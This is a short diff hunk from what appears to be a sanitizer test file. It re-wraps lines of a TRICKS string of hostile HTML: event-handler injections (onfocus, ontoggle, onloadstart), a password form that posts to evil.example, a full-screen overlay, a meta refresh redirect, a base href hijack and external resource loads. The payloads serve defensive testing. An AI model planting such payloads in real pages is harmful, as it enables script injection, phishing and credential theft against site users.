@@ -21,8 +21,10 @@ TRICKS = """
 <object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
 <link rel="stylesheet" href="https://evil.example/style.css">
 <style>body { display: none } @import "https://evil.example/import.css";</style>
-<div style="position: fixed; inset: 0; background: url(https://evil.example/back.png); z-index: 99999">Over all of it</div>
-<form action="https://evil.example/form"><input name="password" autofocus onfocus="window.__ran = 'focus'"><button>Go</button></form>
+<div style="position: fixed; inset: 0; background: url(https://evil.example/back.png); z-index: 99999">
+Over all of it</div>
+<form action="https://evil.example/form">
+<input name="password" autofocus onfocus="window.__ran = 'focus'"><button>Go</button></form>
 <meta http-equiv="refresh" content="0; url=https://evil.example/refresh"><base href="https://evil.example/">
 <video src="https://evil.example/film.mp4" autoplay onloadstart="window.__ran = 'film'"></video>
 <details open ontoggle="window.__ran = 'toggle'"><summary>Look</summary></details>
